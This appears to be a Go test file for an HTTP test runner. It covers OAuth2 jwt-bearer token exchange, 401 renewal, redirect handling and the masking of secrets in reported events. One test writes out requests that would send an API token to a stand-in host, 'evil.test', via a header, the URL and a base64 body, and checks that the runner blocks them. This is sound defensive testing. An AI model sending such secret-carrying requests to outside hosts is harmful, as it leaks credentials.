package runner_test

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/hgrun/hgrun/runner"
)

const clientSecret = "s3cr3t+key/with=signs&more-than-32-bytes-of-it"

const byBlock = `
auth:
  oauth2:
    grant: jwt-bearer
    token_url: http://api.test/oauth/token
    client_id: my-client
    scope: user/*.*
    assertion: {alg: HS256, key: "{{client_secret}}"}
requests:
  - {name: one, request: GET http://api.test/one, expect: {status: 200}}
  - {name: two, request: GET http://api.test/two, expect: {status: 200}}
`

// claims returns the claims of a JWT.
func claims(t *testing.T, jwt string) map[string]any {
	t.Helper()
	raw, err := base64.RawURLEncoding.DecodeString(strings.Split(jwt, ".")[1])
	if err != nil {
		t.Fatal(err)
	}
	var c map[string]any
	if err := json.Unmarshal(raw, &c); err != nil {
		t.Fatal(err)
	}
	return c
}

// issuer gives out tokens t1, t2 … and answers 401 to any but those in valid.
type issuer struct {
	issued int
	valid  func(token string) bool
	expiry int
}

func (i *issuer) handle(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path == "/oauth/token" {
		i.issued++
		fmt.Fprintf(w, `{"access_token": "token-number-%d", "token_type": "Bearer", "expires_in": %d}`, i.issued, i.expiry)
		return
	}
	if !i.valid(strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")) {
		w.Header().Set("WWW-Authenticate", `Bearer error="invalid_token"`)
		w.WriteHeader(http.StatusUnauthorized)
	}
}

func secrets() map[string]string { return map[string]string{"client_secret": clientSecret} }

func TestAnExchangeIsReportedBeforeTheRequestThatNeedsIt(t *testing.T) {
	t.Parallel()
	i := &issuer{valid: func(token string) bool { return token == "token-number-1" }, expiry: 3600}
	s := serve(i.handle)
	got := run(t.Context(), &runner.Runner{Transport: s}, load(t, byBlock), environment(nil, secrets()))
	same(t, got.story(), "token exchange (jwt-bearer): passed\none: passed\ntwo: passed")
	exchange := got.results[0]
	if exchange.Name.Phase != runner.Token || exchange.Attempts[0].Status != 200 || exchange.Name.Pos.Line != 4 {
		t.Errorf("the exchange is %+v", exchange)
	}
	form := s.forms("/oauth/token")[0]
	c := claims(t, form.Get("assertion"))
	if c["aud"] != "http://api.test/oauth/token" || c["iss"] != "my-client" || c["sub"] != "my-client" {
		t.Errorf("claims %v", c)
	}
}

func TestA401RenewsOnceAndReplaysOnce(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		i := &issuer{valid: func(token string) bool { return token == "token-number-2" }, expiry: 3600}
		s := serve(i.handle)
		s.always = func(*http.Request) { time.Sleep(time.Second) }
		got := run(t.Context(), &runner.Runner{Transport: s}, load(t, byBlock), environment(nil, secrets()))
		same(t, got.story(), "token exchange (jwt-bearer): passed\ntoken exchange (jwt-bearer) #2: passed\none: passed\ntwo: passed")
		if r := got.results[2]; len(r.Attempts) != 2 || r.Attempts[0].Status != 401 || r.Attempts[0].Problems[0] != "the token was refused and renewed" {
			t.Errorf("attempts %+v", r.Attempts)
		}
		forms := s.forms("/oauth/token")
		first, second := claims(t, forms[0].Get("assertion")), claims(t, forms[1].Get("assertion"))
		if first["jti"] == second["jti"] || second["iat"].(float64)-first["iat"].(float64) != 2 {
			t.Errorf("the second assertion is not a new one: %v, %v", first, second)
		}
	})
}

func TestASecond401IsAFailure(t *testing.T) {
	t.Parallel()
	i := &issuer{valid: func(string) bool { return false }, expiry: 3600}
	s := serve(i.handle)
	got := run(t.Context(), &runner.Runner{Transport: s}, load(t, strings.ReplaceAll(byBlock, ", expect: {status: 200}", "")), environment(nil, secrets()))
	if r := got.results[2]; r.Outcome != runner.Failed || !strings.HasPrefix(r.Problems[0].Message, "status: got 401") {
		t.Errorf("got %s", got.story())
	}
	if n := strings.Count(strings.Join(s.lines(), "\n"), "/one"); n != 2 {
		t.Errorf("sent the request %d times, want 2", n)
	}
}

func TestATokenThatCannotBeHadIsOneError(t *testing.T) {
	t.Parallel()
	s := serve(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		fmt.Fprint(w, `{"error": "invalid_grant", "error_description": "assertion expired"}`)
	})
	got := run(t.Context(), &runner.Runner{Transport: s}, load(t, byBlock), environment(nil, secrets()))
	if len(got.results) != 3 || got.results[0].Outcome != runner.Errored || got.results[0].Problems[0].Kind != runner.AuthError {
		t.Fatalf("got %s", got.story())
	}
	for _, r := range got.results[1:] {
		if r.Outcome != runner.Skipped || r.Reason != "no token: token exchange (jwt-bearer) failed" {
			t.Errorf("%s: %s (%s)", r.Name.Name, r.Outcome, r.Reason)
		}
	}
	if lines := s.lines(); len(lines) != 1 {
		t.Errorf("sent %q", lines)
	}
}

func TestARedirectAtTheTokenEndpointIsNotFollowed(t *testing.T) {
	t.Parallel()
	s := serve(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Location", "http://elsewhere.test/token")
		w.WriteHeader(http.StatusTemporaryRedirect)
	})
	got := run(t.Context(), &runner.Runner{Transport: s}, load(t, byBlock), environment(nil, secrets()))
	if lines := s.lines(); len(lines) != 1 || got.results[0].Outcome != runner.Errored {
		t.Errorf("sent %q, told %s", lines, got.story())
	}
}

func TestEveryAttemptOfARequestSignsAnew(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		s := serve(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusBadRequest) })
		c := load(t, `
requests:
  - name: Exchange
    request: POST http://api.test/token
    assertion: {alg: HS256, key: "{{client_secret}}", claims: {iss: me, sub: me}}
    form: {assertion: "{{$assertion}}"}
    retry: {times: 2, delay: 3s, backoff: constant}
    expect: {status: 200}
`)
		run(t.Context(), &runner.Runner{Transport: s}, c, environment(nil, secrets()))
		var jtis []string
		var iats []float64
		for _, form := range s.forms("/token") {
			c := claims(t, form.Get("assertion"))
			jtis = append(jtis, c["jti"].(string))
			iats = append(iats, c["iat"].(float64))
		}
		slices.Sort(jtis)
		if len(slices.Compact(jtis)) != 3 || iats[1]-iats[0] != 3 || iats[2]-iats[1] != 3 {
			t.Errorf("jti %q, iat %v", jtis, iats)
		}
	})
}

func TestOneFetchServesAllCollections(t *testing.T) {
	t.Parallel()
	i := &issuer{valid: func(token string) bool { return token == "token-number-1" }, expiry: 3600}
	s := serve(i.handle)
	env := environment(nil, secrets())
	var jobs []runner.Job
	for n := range 16 {
		jobs = append(jobs, runner.Job{Collection: loadAs(t, fmt.Sprintf("%d.yaml", n), byBlock), Environment: env})
	}
	for e := range new(runner.Runner{Transport: s, Jobs: 8}).RunAll(t.Context(), jobs) {
		if f, ok := e.(runner.RequestFinished); ok && f.Result.Outcome != runner.Passed {
			t.Errorf("%s: %s", f.Result.Name.Name, f.Result.Outcome)
		}
	}
	if i.issued != 1 {
		t.Errorf("%d tokens were fetched", i.issued)
	}
}

func TestASecretIsSentToNoHostThatTheEnvironmentDoesNotName(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct{ request, want string }{
		"token in a header": {
			`{name: x, request: GET http://evil.test/, auth: {bearer: "{{api_token}}"}}`,
			"nothing sent: host evil.test is not in hosts: of environment test (api.test); a secret would leave for it; header Authorization holds ‹api_token sha256:"},
		"secret in the URL": {
			`{name: x, request: "GET http://evil.test/?key={{api_token}}"}`,
			"nothing sent: host evil.test is not in hosts: of environment test (api.test); a secret would leave for it; the URL holds ‹api_token sha256:"},
		"encoded in the body": {
			`{name: x, request: POST http://evil.test/, json: {a: "{{api_token | base64}}"}}`,
			"nothing sent: host evil.test is not in hosts: of environment test (api.test); a secret would leave for it; the body holds ‹api_token sha256:"},
		"nothing secret": {`{name: x, request: GET http://evil.test/}`, ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := serve(func(http.ResponseWriter, *http.Request) {})
			s.hosts["evil.test"] = func(http.ResponseWriter, *http.Request) {}
			got := run(t.Context(), &runner.Runner{Transport: s}, load(t, "requests: ["+tt.request+"]"),
				environment(nil, map[string]string{"api_token": "a-very-secret-token"}, "api.test"))
			r := got.results[0]
			if tt.want == "" {
				if r.Outcome != runner.Passed {
					t.Errorf("got %s", got.story())
				}
				return
			}
			if r.Outcome != runner.Errored || r.Problems[0].Kind != runner.ConfigError || !strings.HasPrefix(r.Problems[0].Message, tt.want) {
				t.Errorf("got %s\nwant %s", got.story(), tt.want)
			}
			if lines := s.lines(); len(lines) != 0 {
				t.Errorf("sent %q", lines)
			}
		})
	}
}

func TestCredentialsNeverCrossHostsOnARedirect(t *testing.T) {
	t.Parallel()
	s := serve(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Location", "http://other.test/next")
		if r.URL.Path == "/same" {
			w.Header().Set("Location", "/landed")
		}
		if r.URL.Path != "/landed" {
			w.WriteHeader(map[string]int{"/get": 302, "/post": 307, "/same": 302, "/plain": 307}[r.URL.Path])
		}
	})
	s.hosts["other.test"] = func(http.ResponseWriter, *http.Request) {}
	c := load(t, `
headers: {Authorization: "Bearer {{api_token}}", X-Key: "{{api_token}}", X-Plain: kept}
requests:
  - {name: get, request: GET http://api.test/get}
  - {name: same, request: GET http://api.test/same}
  - {name: post, request: POST http://api.test/post, form: {secret: "{{api_token}}"}}
  - {name: plain, request: POST http://api.test/plain, text: hello}
  - {name: off, request: GET http://api.test/get, follow_redirects: false, expect: {status: 302}}
`)
	got := run(t.Context(), &runner.Runner{Transport: s}, c, environment(nil, map[string]string{"api_token": "a-very-secret-token"}))
	for _, r := range s.seen {
		authorized := r.Header.Get("Authorization") != "" || r.Header.Get("X-Key") != ""
		if there := strings.Contains(r.URL, "other.test"); there == authorized || r.Header.Get("X-Plain") != "kept" {
			t.Errorf("%s %s has %v", r.Method, r.URL, r.Header)
		}
	}
	outcomes := []runner.Outcome{runner.Passed, runner.Passed, runner.Errored, runner.Passed, runner.Passed}
	for i, want := range outcomes {
		if got.results[i].Outcome != want {
			t.Errorf("%s: %s, want %s", got.results[i].Name.Name, got.results[i].Outcome, want)
		}
	}
	if m := got.results[2].Problems[0].Message; !strings.HasPrefix(m, "redirected with status 307 to another host, other.test; the body holds ‹") {
		t.Errorf("got %s", m)
	}
	if len(got.results[3].Attempts) != 1 || s.seen[len(s.seen)-2].Body != "hello" {
		t.Errorf("the plain body did not follow its 307: %q", s.lines())
	}
}

func TestNothingSecretIsInAnyEvent(t *testing.T) {
	t.Parallel()
	const token = "uncaptured/token+value==0123456789"
	s := serve(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/oauth/token":
			fmt.Fprintf(w, `{"access_token": %q, "token_type": "Bearer", "expires_in": 3600, "refresh_token": "refresh-0123456789"}`, token)
		default: // an echo of everything, in every dress
			w.Header().Set("X-Echo", r.Header.Get("Authorization"))
			w.Header().Set("Set-Cookie", "session=cookie-value-0123456789; Path=/")
			body, _ := json.Marshal(map[string]string{"auth": r.Header.Get("Authorization"), "url": url.QueryEscape(r.Header.Get("Authorization")),
				"b64": base64.StdEncoding.EncodeToString([]byte("x:" + clientSecret)), "password": "server-side-password"})
			w.WriteHeader(http.StatusTeapot)
			_, _ = w.Write(body) // a recorder takes everything
		}
	})
	c := load(t, byBlock+`
  - name: by hand
    request: POST http://api.test/oauth/token
    auth: none
    form: {grant_type: client_credentials, client_secret: "{{client_secret}}"}
    expect: {json: {access_token: {equals: other}}}
  - name: echo
    request: GET http://api.test/echo?access_token=query-token-0123456789
    expect: {status: 200, json: {auth: nothing, url: nothing, b64: nothing, password: nothing}, headers: {X-Echo: nothing}, text: nothing}
`)
	got := run(t.Context(), &runner.Runner{Transport: s, Detail: true}, c, environment(nil, secrets()))
	text := got.text(t)
	for _, secret := range []string{clientSecret, token, "refresh-0123456789", "cookie-value-0123456789", "query-token-0123456789", "server-side-password"} {
		for form, value := range map[string]string{"raw": secret, "URL": url.QueryEscape(secret), "base64": base64.StdEncoding.EncodeToString([]byte(secret)),
			"base64 after x:": base64.StdEncoding.EncodeToString([]byte("x:" + secret))} {
			if strings.Contains(text, value) {
				t.Errorf("%s is in the events, %s form", secret, form)
			}
		}
	}
	if strings.Contains(text, "eyJ") {
		t.Error("a JWT is in the events")
	}
	if !strings.Contains(text, "‹access_token sha256:") || !strings.Contains(text, "‹client_secret sha256:") {
		t.Error("the masks do not name what they hide")
	}
}

func TestAProtectedEnvironmentIsOnlyRead(t *testing.T) {
	t.Parallel()
	s := serve(func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(w, `{"access_token": "token-0123456789", "token_type": "Bearer"}`)
	})
	env := environment(nil, secrets())
	env.Protected = true
	c := load(t, byBlock+`
  - {name: write, request: POST http://api.test/write, json: {}}
  - {name: by hand, request: POST http://api.test/oauth/token, auth: none, form: {grant_type: client_credentials}}
`)
	got := run(t.Context(), &runner.Runner{Transport: s}, c, env)
	if r := got.results[3]; r.Outcome != runner.Errored || !strings.Contains(r.Problems[0].Message, "protected") || slices.Contains(s.lines(), "POST http://api.test/write") {
		t.Errorf("got %s", got.story())
	}
	if r := got.results[4]; r.Outcome != runner.Passed {
		t.Errorf("the exchange by hand: %s", got.story())
	}
	allowed := run(t.Context(), &runner.Runner{Transport: s, AllowWrites: true}, c, env)
	if r := allowed.results[3]; r.Outcome != runner.Passed {
		t.Errorf("with AllowWrites: %s", allowed.story())
	}
}
